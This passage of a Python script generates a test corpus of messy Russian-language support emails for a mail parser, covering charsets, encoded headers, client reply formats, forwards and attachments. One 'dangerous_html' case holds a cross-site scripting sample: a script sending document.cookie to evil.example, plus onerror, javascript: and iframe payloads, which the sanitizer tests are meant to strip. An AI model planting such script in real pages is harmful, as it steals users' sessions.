"""Writes the ugly-mail corpus: *.eml as real clients and MTAs produce them + expected.json.

    python supportdesk/mail/tests/corpus/make_corpus.py

Deterministic; the outputs are committed, this script documents how each was made.
"""

from __future__ import annotations

import base64
import binascii
import json
import random
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).parent
CASES: dict[str, tuple[bytes, dict]] = {}

PROBE_1 = "После обновления Forward TS до версии 6.2.1 перестал выводиться логотип на канале 3."
PROBE_2 = "На выходе платы FD422 периодически пропадает звук на 2-3 секунды."
PROBE_3 = "Эфирный сервер перестал видеть плату FD842 после перезагрузки."
PROBE_4 = "При импорте расписания из XML часть элементов теряется."
PROBE_5 = "Титры отображаются с задержкой около 12 кадров относительно видео."
SIGN = "С уважением,\nИван Петров\nинженер эфирной аппаратной\nтел. +7 (495) 123-45-67"


def ew(text: str, charset: str = "utf-8", enc: str = "B") -> str:
    data = text.encode(charset)
    if enc == "B":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    body = "".join(
        "_" if b == 32 else chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else f"={b:02X}"
        for b in data
    )
    return f"=?{charset}?Q?{body}?="


def b64(data: bytes) -> bytes:
    raw = base64.b64encode(data)
    return b"\n".join(raw[i : i + 76] for i in range(0, len(raw), 76)) + b"\n"


def qp(data: bytes) -> bytes:
    return binascii.b2a_qp(data, istext=True)


def mail(headers: list[tuple[str, str | bytes]], body: bytes, nl: bytes = b"\n") -> bytes:
    out = []
    for name, value in headers:
        v = value if isinstance(value, bytes) else value.encode("utf-8")  # raw 8-bit where a case wants it
        out.append(name.encode() + b": " + v)
    return b"\n".join(out).replace(b"\n", nl) + nl + nl + body.replace(b"\r\n", b"\n").replace(b"\n", nl)


def common(i: int, frm: str, subject: str, date: str | None = "Thu, 05 Mar 2026 10:15:00 +0300",
           mid: bool = True) -> list[tuple[str, str | bytes]]:
    h: list[tuple[str, str | bytes]] = [
        ("Return-Path", "<" + frm.split("<")[-1].rstrip(">") + ">"),
        ("Received", "from mx.example.ru (mx.example.ru [192.0.2.10])\n\tby mail.forwardtv.example "
                     "(Postfix) with ESMTPS id 4F2A1C0E;\n\tThu, 05 Mar 2026 10:15:03 +0300 (MSK)"),
        ("From", frm),
        ("To", "support@forwardtv.example"),
        ("Subject", subject),
    ]
    if date:
        h.append(("Date", date))
    if mid:
        h.append(("Message-ID", f"<corpus.{i:03d}.{random.Random(i).randrange(10**8):08d}@example.ru>"))
    h.append(("MIME-Version", "1.0"))
    return h


def add(name: str, raw: bytes, **expected: object) -> None:
    expected.setdefault("attachments", [])
    expected.setdefault("is_auto_reply", False)
    expected.setdefault("is_bounce", False)
    CASES[name] = (raw, expected)


def ru_body(probe: str, extra: str = "") -> str:
    return f"Здравствуйте!\n\n{probe} {extra}\n\nВерсия: Forward TS 6.2.1 (сборка 4410).\n\n{SIGN}\n"


def text_ct(charset: str, cte: str, sub: str = "plain") -> list[tuple[str, str]]:
    return [("Content-Type", f"text/{sub}; charset={charset}"), ("Content-Transfer-Encoding", cte)]


def encode_body(text: str, charset: str, cte: str) -> bytes:
    data = text.encode(charset)
    return {"8bit": data, "quoted-printable": qp(data), "base64": b64(data)}[cte]


# --------------------------------------------------------------- charsets ----
n = 0
for charset, label in (("koi8-r", "koi8-r"), ("cp1251", "windows-1251"), ("utf-8", "utf-8")):
    for cte, mua in (("8bit", "The Bat! (v3.99.3) Professional"),
                     ("quoted-printable", "Microsoft Outlook Express 6.00.2900.5512"),
                     ("base64", "Mozilla Thunderbird 1.5.0.10 (Windows/20070221)")):
        n += 1
        subj = "Пропал логотип после обновления"
        h = common(n, f"{ew('Иван Петров', label, 'Q')} <Ivan.Petrov@TV-Kazan.ru>", ew(subj, label), )
        h += [("X-Mailer", mua)] + text_ct(label, cte)
        add(f"{n:02d}_{label}_{cte}", mail(h, encode_body(ru_body(PROBE_1), charset, cte)),
            from_addr="ivan.petrov@tv-kazan.ru", from_name="Иван Петров", subject=subj, probe=PROBE_1,
            utc_offset=180, language="ru", signature=True)

n += 1
h = common(n, "=?cp866?B?" + base64.b64encode("Сергей".encode("cp866")).decode() + "?= <sergey@radio-ufa.ru>",
           ew("Сервер не видит плату", "cp866"), "Thu, 05 Mar 2026 12:15:00 +0500") + text_ct("cp866", "8bit")
add(f"{n:02d}_cp866_dos", mail(h, ru_body(PROBE_3).encode("cp866")), from_addr="sergey@radio-ufa.ru",
    subject="Сервер не видит плату", probe=PROBE_3, utc_offset=300, language="ru")

n += 1
h = common(n, "olga@efir-tomsk.ru", ew("Задержка титров", "iso-8859-5", "Q"),
           "Thu, 05 Mar 2026 14:15:00 +0700") + text_ct("iso-8859-5", "quoted-printable")
add(f"{n:02d}_iso8859_5", mail(h, encode_body(ru_body(PROBE_5), "iso-8859-5", "quoted-printable")),
    from_addr="olga@efir-tomsk.ru", subject="Задержка титров", probe=PROBE_5, utc_offset=420, language="ru")

# Undeclared 8-bit: no Content-Type at all, raw bytes in the subject and the body.
for charset in ("cp1251", "koi8-r"):
    n += 1
    subj = "Не работает запуск по GPI"
    h = [(k, v) for k, v in common(n, "admin@gtrk-perm.ru", "x", "Thu, 5 Mar 2026 12:15 +0500")
         if k not in ("Subject", "MIME-Version")]
    h.append(("Subject", subj.encode(charset)))
    body = ("Добрый день.\n\nНе работает управление по GPI: импульс приходит, но элемент не стартует. "
            "Проверяли на двух каналах.\n\nАдминистратор\n").encode(charset)
    add(f"{n:02d}_undeclared_{charset}", mail(h, body), from_addr="admin@gtrk-perm.ru", subject=subj,
        probe="Не работает управление по GPI: импульс приходит, но элемент не стартует.",
        utc_offset=300, language="ru")

# Lying declared charsets.
for declared, real in (("koi8-r", "cp1251"), ("windows-1251", "koi8-r"), ("iso-8859-1", "cp1251"),
                       ("windows-1251", "utf-8"), ("us-ascii", "cp1251"), ("unknown-8bit", "koi8-r")):
    n += 1
    subj = "Чёрный кадр между элементами плейлиста"
    h = common(n, "efir@kanal-voronezh.ru", ew(subj, "utf-8"), "Thu, 05 Mar 2026 10:15:00 +0300")
    h += text_ct(declared, "8bit")
    add(f"{n:02d}_lying_{declared}_is_{real}",
        mail(h, ru_body("При переходе между элементами плейлиста появляется чёрный кадр.").encode(real)),
        from_addr="efir@kanal-voronezh.ru", subject=subj,
        probe="При переходе между элементами плейлиста появляется чёрный кадр.", utc_offset=180,
        language="ru")

n += 1
h = common(n, "tech@studio-yar.ru", ew("ВОПРОС ПО ЛИЦЕНЗИИ", "koi8-r"), "Thu, 05 Mar 2026 10:15:00 +0300")
h += text_ct("koi8-r", "quoted-printable")
caps = "НЕ АКТИВИРУЕТСЯ ЛИЦЕНЗИЯ ПОСЛЕ ЗАМЕНЫ МАТЕРИНСКОЙ ПЛАТЫ, ПРОШУ СРОЧНО ПОМОЧЬ."
add(f"{n:02d}_koi8_all_caps", mail(h, qp(f"ЗДРАВСТВУЙТЕ!\n\n{caps}\n".encode("koi8-r"))),
    from_addr="tech@studio-yar.ru", subject="ВОПРОС ПО ЛИЦЕНЗИИ", probe=caps, utc_offset=180, language="ru")

# ----------------------------------------------------- broken encoded words ----
n += 1
a, b = "Импорт расписания ", "теряет элементы"
h = common(n, "it@media-ekb.ru", "Re:" + ew(a, "koi8-r") + ew(b, "koi8-r"), "Thu, 05 Mar 2026 12:15:00 +0500")
h += text_ct("utf-8", "8bit")
add(f"{n:02d}_ew_no_spaces", mail(h, ru_body(PROBE_4).encode()), from_addr="it@media-ekb.ru",
    subject="Re:Импорт расписания теряет элементы", probe=PROBE_4, utc_offset=300, language="ru")

n += 1
data = "Импорт расписания теряет элементы".encode()
words = [f"=?UTF-8?B?{base64.b64encode(data[i:i + 7]).decode()}?=" for i in range(0, len(data), 7)]
h = common(n, "it@media-ekb.ru", "\n ".join(words), "Thu, 05 Mar 2026 12:15:00 +0500") + text_ct("utf-8", "8bit")
add(f"{n:02d}_ew_split_multibyte", mail(h, ru_body(PROBE_4).encode()), from_addr="it@media-ekb.ru",
    subject="Импорт расписания теряет элементы", probe=PROBE_4, utc_offset=300, language="ru")

n += 1
wrong = "=?koi8-r?B?" + base64.b64encode("Импорт расписания теряет элементы".encode("cp1251")).decode() + "?="
h = common(n, "it@media-ekb.ru", wrong, "Thu, 05 Mar 2026 12:15:00 +0500") + text_ct("utf-8", "8bit")
add(f"{n:02d}_ew_wrong_label", mail(h, ru_body(PROBE_4).encode()), from_addr="it@media-ekb.ru",
    subject="Импорт расписания теряет элементы", probe=PROBE_4, utc_offset=300, language="ru")

n += 1
h = common(n, "x", "x", "Thu, 05 Mar 2026 12:15:00 +0500")
h = [(k, ("Пётр Сидоров <petr@media-ekb.ru>".encode() if k == "From" else
          "Вопрос о поддержке 4K".encode() if k == "Subject" else v)) for k, v in h]
h += text_ct("utf-8", "8bit")
add(f"{n:02d}_raw_utf8_headers", mail(h, "Есть ли в версии 6.2.1 поддержка вывода в 4K через FD940?\n".encode()),
    from_addr="petr@media-ekb.ru", from_name="Пётр Сидоров", subject="Вопрос о поддержке 4K",
    probe="Есть ли в версии 6.2.1 поддержка вывода в 4K через FD940?", utc_offset=300, language="ru")

n += 1
h = common(n, "x", "x", "Thu, 05 Mar 2026 12:15:00 +0500")
h = [(k, ("Пётр Сидоров <petr@media-ekb.ru>".encode("cp1251") if k == "From" else
          "Вопрос о поддержке 4K".encode("cp1251") if k == "Subject" else v)) for k, v in h]
h += text_ct("windows-1251", "8bit")
add(f"{n:02d}_raw_cp1251_headers",
    mail(h, "Есть ли в версии 6.2.1 поддержка вывода в 4K через FD940?\n".encode("cp1251")),
    from_addr="petr@media-ekb.ru", from_name="Пётр Сидоров", subject="Вопрос о поддержке 4K",
    probe="Есть ли в версии 6.2.1 поддержка вывода в 4K через FD940?", utc_offset=300, language="ru")

n += 1
h = common(n, '"' + ew("Иванов, Иван", "windows-1251", "Q") + '" <ivanov@tvc-nnov.ru>',
           ew("Ошибка Access violation в Forward TS 6.2.1", "windows-1251", "Q"), "Thu, 05 Mar 2026 10:15:00 +0300")
h += text_ct("windows-1251", "quoted-printable")
add(f"{n:02d}_ew_quoted_name_with_comma", mail(h, qp(ru_body(PROBE_2).encode("cp1251"))),
    from_addr="ivanov@tvc-nnov.ru", from_name="Иванов, Иван", subject="Ошибка Access violation в Forward TS 6.2.1",
    probe=PROBE_2, utc_offset=180, language="ru")

# ------------------------------------------------------------------ HTML ----
OUTLOOK_HTML = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset={cs}">
<meta name=Generator content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {{behavior:url(#default#VML);}}</style><![endif]-->
<style><!--
p.MsoNormal, li.MsoNormal {{margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]-->
</head>
<body lang=RU link="#0563C1" vlink="#954F72"><div class=WordSection1>
<p class=MsoNormal>Добрый день!<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>{probe}<o:p></o:p></p>
<p class=MsoNormal><![if !supportLists]><span>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>Открыть плейлист на канале 2.<o:p></o:p></p>
<p class=MsoNormal>Ожидаемый результат: &laquo;ролик воспроизводится без сбоев&raquo;.<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>С уважением,<o:p></o:p></p>
<p class=MsoNormal>Марина Соколова<o:p></o:p></p>
{extra}
</div></body></html>
"""
n += 1
h = common(n, f"{ew('Соколова Марина', 'windows-1251')} <m.sokolova@gtrk-rostov.ru>",
           ew("Пропадает звук на выходе FD422", "windows-1251"), "Thu, 5 Mar 2026 10:15:00 +0300")
h += [("X-Mailer", "Microsoft Outlook 16.0")] + text_ct("windows-1251", "quoted-printable", "html")
add(f"{n:02d}_outlook_html_only", mail(h, qp(OUTLOOK_HTML.format(cs="windows-1251", probe=PROBE_2, extra="").encode("cp1251"))),
    from_addr="m.sokolova@gtrk-rostov.ru", subject="Пропадает звук на выходе FD422", probe=PROBE_2,
    utc_offset=180, language="ru", html=True, text_absent=["MsoNormal", "<o:p>", "mso 9"], signature=True)

n += 1
quoted_html = ("<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'>"
               "<p class=MsoNormal><b>От:</b> Техподдержка Forward &lt;support@forwardtv.example&gt;<br>"
               "<b>Отправлено:</b> 4 марта 2026 г. 17:02<br><b>Кому:</b> Соколова Марина<br>"
               "<b>Тема:</b> RE: Пропадает звук</p></div><p class=MsoNormal>Уточните версию драйвера.</p>")
html = OUTLOOK_HTML.format(cs="utf-8", probe=PROBE_2, extra=quoted_html + '<p><img src="cid:image001.png@01DA1234.5678" width=120></p>')
png = b"\x89PNG\r\n\x1a\n" + random.Random(5).randbytes(300)
body = f"""This is a multi-part message in MIME format.

------=_NextPart_000_0001_01DA1234.56789ABC
Content-Type: multipart/related; boundary="----=_NextPart_001_0002"; type="text/html"

------=_NextPart_001_0002
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(html.encode()).decode()}
------=_NextPart_001_0002
Content-Type: image/png; name="image001.png"
Content-Transfer-Encoding: base64
Content-ID: <image001.png@01DA1234.5678>

{b64(png).decode()}
------=_NextPart_001_0002--

------=_NextPart_000_0001_01DA1234.56789ABC--
""".encode()
h = common(n, "m.sokolova@gtrk-rostov.ru", "RE: " + ew("Пропадает звук", "utf-8"), "Thu, 5 Mar 2026 10:15:00 +0300")
h += [("Content-Type", 'multipart/mixed; boundary="----=_NextPart_000_0001_01DA1234.56789ABC"'),
      ("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "AdpI3kLmQ2x0Yg==")]
add(f"{n:02d}_outlook_related_inline_image", mail(h, body, b"\r\n"), from_addr="m.sokolova@gtrk-rostov.ru",
    subject="RE: Пропадает звук", probe=PROBE_2, attachments=["image001.png"], utc_offset=180, language="ru",
    html=True, quoted=True, inline=["image001.png"])

n += 1
evil = f"""<html><body onload="steal()"><p>Добрый день! {PROBE_3}</p>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<img src=x onerror="alert(1)"><a href="javascript:alert(2)">ссылка</a>
<iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name=p></form>
<style>body{{display:none}}</style><p style="position:fixed;top:0">Спасибо.</p></body></html>"""
h = common(n, "user@gmail.com", "Evil HTML", "Thu, 05 Mar 2026 07:15:00 +0000") + text_ct("utf-8", "8bit", "html")
add(f"{n:02d}_dangerous_html", mail(h, evil.encode()), from_addr="user@gmail.com", subject="Evil HTML",
    probe=PROBE_3, utc_offset=0, language="ru", html=True, html_absent=["<script", "onerror", "javascript:", "onload", "<iframe", "<form", "style="],
    text_absent=["document.location", "display:none"])

n += 1
html_koi = "<html><head><meta charset=koi8-r></head><body><div>" + PROBE_4 + "</div><div><br></div><div>-- <br>Олег</div></body></html>"
h = common(n, "oleg@radio-tyumen.ru", ew("Импорт XML", "koi8-r"), "Thu, 05 Mar 2026 12:15:00 +0500")
h += [("Content-Type", "text/html"), ("Content-Transfer-Encoding", "8bit")]
add(f"{n:02d}_html_undeclared_koi8", mail(h, html_koi.encode("koi8-r")), from_addr="oleg@radio-tyumen.ru",
    subject="Импорт XML", probe=PROBE_4, utc_offset=300, language="ru", html=True, signature=True)

# ------------------------------------------------------------ mail clients ----
n += 1
txt = "Добрый день!\n\nСнова проблема с титрами. " + PROBE_5 + "\n\nЛог приложил.\n\nАнна\n"
log = "\n".join(f"2026-03-05 09:{m:02d}:00.000 [WARN] Output FD322: buffer underrun, {m} frames" for m in range(40)).encode()
body = f"""
--Apple-Mail=_5B1C2D3E-1111-2222-3333-444455556666
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

{qp(txt.encode()).decode()}
--Apple-Mail=_5B1C2D3E-1111-2222-3333-444455556666
Content-Disposition: inline;
\tfilename*=utf-8''%D0%9B%D0%BE%D0%B3%20%D1%81%D0%B5%D1%80%D0%B2%D0%B5%D1%80%D0%B0.txt
Content-Type: text/plain;
\tx-unix-mode=0644;
\tname="=?utf-8?B?0JvQvtCzINGB0LXRgNCy0LXRgNCwLnR4dA==?="
Content-Transfer-Encoding: 7bit

{log.decode()}

--Apple-Mail=_5B1C2D3E-1111-2222-3333-444455556666
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii



--Apple-Mail=_5B1C2D3E-1111-2222-3333-444455556666--
""".encode()
h = common(n, "=?utf-8?Q?=D0=90=D0=BD=D0=BD=D0=B0?= <anna@tv-spb.ru>", ew("Задержка титров", "utf-8", "Q"),
           "Thu, 5 Mar 2026 10:15:00 +0300")
h += [("Content-Type", 'multipart/mixed;\n\tboundary="Apple-Mail=_5B1C2D3E-1111-2222-3333-444455556666"'),
      ("X-Mailer", "Apple Mail (2.3774.600.62)"), ("Mime-Version", "1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))")]
add(f"{n:02d}_apple_mail_inline_txt", mail(h, body), from_addr="anna@tv-spb.ru", from_name="Анна",
    subject="Задержка титров", probe=PROBE_5, attachments=["Лог сервера.txt"], utc_offset=180, language="ru",
    text_absent=["buffer underrun"])

n += 1
txt = ("Проверили на другом сервере, там то же самое.\nДрайвер платы обновляли в прошлом месяце.\n\n"
       "On 04.03.2026 17:02, Техподдержка Forward wrote:\n> Добрый день!\n>\n> Уточните, пожалуйста, версию\n> драйвера платы.\n>\n"
       "> -- \n> Техподдержка Forward\n\n-- \nДмитрий Орлов\nГТРК «Кузбасс»\n")
h = common(n, "Дмитрий Орлов <orlov@gtrk-kemerovo.ru>".replace("Дмитрий Орлов", ew("Дмитрий Орлов")), "Re: [#1042] " + ew("Сервер не видит плату"),
           "Thu, 5 Mar 2026 14:15:00 +0700")
h += [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.6.0"),
      ("In-Reply-To", "<ticket-1042.reply-2@forwardtv.example>"),
      ("References", "<corpus.root.1042@gtrk-kemerovo.ru>\n <ticket-1042.reply-2@forwardtv.example>"),
      ("Content-Type", "text/plain; charset=UTF-8; format=flowed"), ("Content-Transfer-Encoding", "8bit"),
      ("Content-Language", "ru")]
add(f"{n:02d}_thunderbird_reply", mail(h, txt.encode()), from_addr="orlov@gtrk-kemerovo.ru",
    subject="Re: [#1042] Сервер не видит плату", probe="Проверили на другом сервере, там то же самое.",
    utc_offset=420, language="ru", quoted=True, in_reply_to="ticket-1042.reply-2@forwardtv.example",
    references=["corpus.root.1042@gtrk-kemerovo.ru", "ticket-1042.reply-2@forwardtv.example"],
    new_text_absent=["Уточните"])

n += 1
txt = ("Здравствуйте, Техподдержка.\n\nПереустановили драйвер FD842, ситуация не изменилась.\n\n"
       "Вы писали 4 марта 2026 г., 17:02:10:\n\nТF> Добрый день!\nТF> Переустановите драйвер.\n\n"
       "-- \nС уважением,\n Николай                          mailto:nik@efir-chel.ru\n")
h = common(n, f"{ew('Николай', 'windows-1251')} <nik@efir-chel.ru>", "Re: " + ew("Сервер не видит плату FD842", "windows-1251"),
           "Thu, 5 Mar 2026 12:15:30 +0500")
h += [("X-Mailer", "The Bat! (v10.5.3.1) Professional"), ("Reply-To", "Николай <nik@efir-chel.ru>".replace("Николай", ew("Николай", "windows-1251"))),
      ("In-Reply-To", "<ticket-77.a@forwardtv.example>")] + text_ct("windows-1251", "8bit")
add(f"{n:02d}_the_bat_reply", mail(h, txt.encode("cp1251")), from_addr="nik@efir-chel.ru",
    subject="Re: Сервер не видит плату FD842", probe="Переустановили драйвер FD842, ситуация не изменилась.",
    utc_offset=300, language="ru", quoted=True, in_reply_to="ticket-77.a@forwardtv.example",
    new_text_absent=["Переустановите"])

n += 1
txt = ("Ошибка снова появилась в 14:20, сервер пришлось перезапустить.\n\nОтправлено с iPhone\n\n"
       "> 5 марта 2026 г., в 10:15, Техподдержка Forward <support@forwardtv.example> написал(а):\n>\n"
       "> ﻿Добрый день! Сообщите, если ошибка повторится.\n")
h = common(n, "Ксения <ksenia.m@mail.ru>".replace("Ксения", ew("Ксения")), "Re: " + ew("Ошибка в FDOnAir"),
           "Thu, 5 Mar 2026 14:25:11 +0300")
h += [("X-Mailer", "iPhone Mail (21D61)"), ("In-Reply-To", "<ticket-5.x@forwardtv.example>")] + text_ct("utf-8", "quoted-printable")
add(f"{n:02d}_iphone_reply", mail(h, qp(txt.encode())), from_addr="ksenia.m@mail.ru", subject="Re: Ошибка в FDOnAir",
    probe="Ошибка снова появилась в 14:20, сервер пришлось перезапустить.", utc_offset=180, language="ru",
    quoted=True, signature=True)

n += 1
txt = ("Hello,\n\nThe playout server freezes about once a day since we installed FDOnAir 3.2.0, only a reboot helps.\n\n"
       "Sent from my Android\n")
h = common(n, "John Smith <JSmith@Broadcast-Example.com>", "FDOnAir freezes daily", "Thu, 05 Mar 2026 02:15:00 -0500")
h += text_ct("UTF-8", "7bit")
add(f"{n:02d}_android_english", mail(h, txt.encode()), from_addr="jsmith@broadcast-example.com", from_name="John Smith",
    subject="FDOnAir freezes daily", probe="only a reboot helps.", utc_offset=-300, language="en", signature=True)

n += 1
plain = ("Добрый день!\n\nЕсть ли новости по этому вопросу?\n\n-- \nОтправлено из мобильной Яндекс Почты\n\n"
         "04.03.2026, 17:02, \"Техподдержка Forward\" <support@forwardtv.example>:\n> Добрый день! Проверяем.\n")
html = ("<div>Добрый день!</div><div> </div><div>Есть ли новости по этому вопросу?</div><div> </div>"
        "<div>-- <br />Отправлено из мобильной Яндекс Почты</div><div> </div><div>04.03.2026, 17:02, \"Техподдержка Forward\" "
        "&lt;support@forwardtv.example&gt;:</div><blockquote><div>Добрый день! Проверяем.</div></blockquote>")
body = f"""
--b1_yandex_7f3a
Content-Transfer-Encoding: base64
Content-Type: text/plain; charset=utf-8

{b64(plain.encode()).decode()}
--b1_yandex_7f3a
Content-Transfer-Encoding: base64
Content-Type: text/html; charset=utf-8

{b64(html.encode()).decode()}
--b1_yandex_7f3a--
""".encode()
h = common(n, "Алёна <alena-s@yandex.ru>".replace("Алёна", ew("Алёна")), "Re: " + ew("Не сохраняются настройки NDI"),
           "Thu, 05 Mar 2026 13:15:00 +0600")
h += [("X-Mailer", "Yandex Mail"), ("X-Yandex-Spam", "1"), ("Content-Type", 'multipart/alternative; boundary="b1_yandex_7f3a"')]
add(f"{n:02d}_yandex_webmail", mail(h, body), from_addr="alena-s@yandex.ru", subject="Re: Не сохраняются настройки NDI",
    probe="Есть ли новости по этому вопросу?", utc_offset=360, language="ru", quoted=True, signature=True, html=True)

n += 1
html = ("<HTML><BODY><div>Коллеги, напоминаю о нашей проблеме, эфир страдает.</div><div>&nbsp;</div>"
        "<div>С уважением,<br>Галина</div><div>&nbsp;</div><blockquote style=\"border-left:1px solid #0857A6; margin:10px; padding:0 0 0 10px;\">"
        "Понедельник, 2 марта 2026, 10:00 +03:00 от Техподдержка Forward &lt;support@forwardtv.example&gt;:<br>"
        "<div id=\"\"><div class=\"js-helper js-readmsg-msg\">Добрый день! Передали разработчикам.</div></div></blockquote></BODY></HTML>")
h = common(n, f"{ew('Галина')} <galina_v@inbox.ru>", "Re: " + ew("Бегущая строка дёргается"), "Thu, 05 Mar 2026 10:15:00 +0300")
h += [("X-Mailer", "Mail.Ru Mailer 1.0"), ("X-Mras", "Ok")] + text_ct("utf-8", "base64", "html")
add(f"{n:02d}_mailru_html_reply", mail(h, b64(html.encode())), from_addr="galina_v@inbox.ru",
    subject="Re: Бегущая строка дёргается", probe="Коллеги, напоминаю о нашей проблеме, эфир страдает.",
    utc_offset=180, language="ru", quoted=True, signature=True, html=True, new_text_absent=["Передали разработчикам"])

n += 1
txt = ("Уточните, пожалуйста, сроки исправления.\n\nС уважением,\nВадим Козлов\n\n"
       "-----Original Message-----\nFrom: Техподдержка Forward [mailto:support@forwardtv.example]\n"
       "Sent: Wednesday, March 4, 2026 5:02 PM\nTo: Вадим Козлов\nSubject: RE: Ошибка в AsRun\n\nОшибка подтверждена.\n")
h = common(n, f"{ew('Вадим Козлов', 'koi8-r')} <kozlov@efir-krsk.ru>", "RE: " + ew("Ошибка в AsRun", "koi8-r"),
           "Thu, 5 Mar 2026 14:15:00 +0700")
h += [("X-Mailer", "Microsoft Office Outlook 12.0")] + text_ct("koi8-r", "quoted-printable")
add(f"{n:02d}_outlook_plain_reply_koi8", mail(h, qp(txt.encode("koi8-r")), b"\r\n"), from_addr="kozlov@efir-krsk.ru",
    subject="RE: Ошибка в AsRun", probe="Уточните, пожалуйста, сроки исправления.", utc_offset=420, language="ru",
    quoted=True, signature=True)

n += 1
txt = ("Смотрите ниже, это от нашего инженера.\n\n---------- Forwarded message ---------\nОт: Инженер <eng@tv-khv.ru>\n"
       "Date: ср, 4 мар. 2026 г. в 09:00\nSubject: Проблема\nTo: <boss@tv-khv.ru>\n\n" + PROBE_3 + "\n")
h = common(n, "boss@tv-khv.ru", "Fwd: " + ew("Проблема"), "Thu, 05 Mar 2026 17:15:00 +1000") + text_ct("UTF-8", "quoted-printable")
add(f"{n:02d}_gmail_forward_inline", mail(h, qp(txt.encode())), from_addr="boss@tv-khv.ru", subject="Fwd: Проблема",
    probe=PROBE_3, utc_offset=600, language="ru", quoted=True)

# ------------------------------------------------------- message/rfc822 ----
for inner_cs in ("utf-8", "koi8-r"):
    n += 1
    inner = mail([("From", f"{ew('Инженер эфира', inner_cs)} <eng@tv-nsk.ru>"), ("To", "boss@tv-nsk.ru"),
                  ("Subject", ew("Ошибка на сервере", inner_cs)), ("Date", "Wed, 04 Mar 2026 09:00:00 +0700"),
                  ("Message-ID", f"<inner.{n}@tv-nsk.ru>"), ("MIME-Version", "1.0")] + text_ct(inner_cs, "8bit"),
                 f"{PROBE_1}\n\nИнженер\n".encode(inner_cs))
    body = (
        b"This is a multi-part message in MIME format.\n--------------B0undary123\n"
        b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
        + "Пересылаю письмо инженера, прошу посмотреть.\n".encode()
        + b"\n--------------B0undary123\nContent-Type: message/rfc822; name=\""
        + ew("Ошибка на сервере.eml").encode()
        + b"\"\nContent-Disposition: attachment; filename*=UTF-8''"
        + quote("Ошибка на сервере.eml").encode()
        + b"\n\n" + inner + b"\n--------------B0undary123--\n"
    )
    h = common(n, "boss@tv-nsk.ru", "Fwd: " + ew("Ошибка на сервере"), "Thu, 05 Mar 2026 14:15:00 +0700")
    h += [("Content-Type", 'multipart/mixed; boundary="------------B0undary123"'),
          ("User-Agent", "Mozilla Thunderbird")]
    add(f"{n:02d}_forward_rfc822_{inner_cs}", mail(h, body), from_addr="boss@tv-nsk.ru", subject="Fwd: Ошибка на сервере",
        probe=PROBE_1, attachments=["Ошибка на сервере.eml"], utc_offset=420, language="ru", quoted=True,
        new_text_absent=[PROBE_1])

# ----------------------------------------------------------- attachments ----
XML = ('<?xml version="1.0" encoding="windows-1251"?>\n<FDConfig product="Forward TS" version="6.2.1">\n'
       '  <Channel id="1" name="Канал 1" enabled="true"/>\n</FDConfig>\n').encode("cp1251")
LOG = "\r\n".join(f"2026-03-05 09:00:{s:02d}.000 [ERROR] Сервер: нет ответа от клиента 10.0.0.{s}" for s in range(30)).encode("cp1251")


def with_attachments(i: int, parts: list[bytes], subject: str = "Файлы настроек") -> bytes:
    b = f"==boundary_att_{i}=="
    body = f"--{b}\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n".encode()
    body += ("Добрый день!\n\n" + PROBE_4 + "\nПрикладываю файл настроек и лог.\n").encode() + b"\n"
    for p in parts:
        body += f"--{b}\n".encode() + p + b"\n"
    body += f"--{b}--\n".encode()
    h = common(i, "engineer@mediagroup-msk.ru", ew(subject), "Thu, 05 Mar 2026 10:15:00 +0300")
    return mail(h + [("Content-Type", f'multipart/mixed; boundary="{b}"')], body)


def part(headers: str, data: bytes) -> bytes:
    return headers.encode("latin-1") + b"\nContent-Transfer-Encoding: base64\n\n" + b64(data)


ATT_CASES = {
    "rfc2231_utf8": ([part("Content-Type: text/xml; name=settings.xml\nContent-Disposition: attachment;\n filename*=UTF-8''"
                           + quote("Настройки_Forward_TS.xml"), XML)], ["Настройки_Forward_TS.xml"]),
    "rfc2231_cp1251_continuations": ([part("Content-Type: text/plain\nContent-Disposition: attachment;\n filename*0*=windows-1251''"
                                           + quote("Лог_сервера_".encode("cp1251")) + ";\n filename*1*="
                                           + quote("за_5_марта.txt".encode("cp1251")), LOG)], ["Лог_сервера_за_5_марта.txt"]),
    "rfc2047_quoted_name": ([part('Content-Type: application/octet-stream;\n\tname="' + ew("Настройки канала.xml", "koi8-r")
                                  + '"\nContent-Disposition: attachment;\n\tfilename="' + ew("Настройки канала.xml", "koi8-r") + '"', XML)],
                            ["Настройки канала.xml"]),
    "rfc2047_split_filename": ([part('Content-Type: text/plain; name="=?UTF-8?B?0JvQvtCzX9GB?=\n =?UTF-8?B?0LXRgNCy0LXRgNCwLnR4dA==?="', LOG)],
                               ["Лог_сервера.txt"]),
    "two_files_log_xml": ([part("Content-Type: text/xml\nContent-Disposition: attachment; filename=FDConfig.xml", XML),
                           part("Content-Type: text/plain; charset=windows-1251\nContent-Disposition: attachment; filename=\"fdserver.log\"", LOG)],
                          ["FDConfig.xml", "fdserver.log"]),
